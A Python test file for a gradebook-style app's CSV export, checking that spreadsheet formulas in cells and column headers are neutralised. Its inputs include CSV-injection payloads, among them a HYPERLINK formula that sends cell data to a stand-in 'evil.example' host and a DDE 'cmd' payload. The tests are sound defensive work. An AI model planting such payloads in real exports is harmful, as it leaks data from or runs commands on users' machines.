"""CSV that spreadsheets show and never run."""

import csv
import io
from datetime import UTC, datetime, timedelta, timezone

import pytest

from canvas_app.views.csv_table import cell, csv_lines, csv_text, defused


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+1",
        "-1+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u200b=1",
        "\uff1d1+1",
        "|x",
        "%x",
    ],
)
def test_formulas_are_defused(text):
    assert defused(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Essay", "2 + 2", "'quoted'", "a=b", "عنوان"])
def test_other_text_stays(text):
    assert defused(text) == text


def test_cells():
    moment = datetime(2026, 11, 23, 20, tzinfo=timezone(-timedelta(hours=7)))

    assert cell(None) == ""
    assert (cell(True), cell(False)) == ("yes", "no")
    assert (cell(-2.5), cell(3)) == (-2.5, 3)
    assert cell(moment) == "2026-11-24 03:00:00"
    assert cell(datetime(2026, 1, 2, tzinfo=UTC)) == "2026-01-02 00:00:00"
    assert defused("a\x00b") == "ab"


def test_a_table_is_read_back():
    text = csv_text(("A", "B"), [('say "no"\n=1', -2.0), ("=1,2", None)])

    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows == [["A", "B"], ['say "no"\n=1', "-2.0"], ["'=1,2", ""]]


def test_column_names_are_defused_too() -> None:
    """Anybody who names assignments names a gradebook's columns."""
    [line] = csv_lines(["Student", '=HYPERLINK("x") (7)'], [])

    assert line == '"Student","\'=HYPERLINK(""x"") (7)"\r\n'
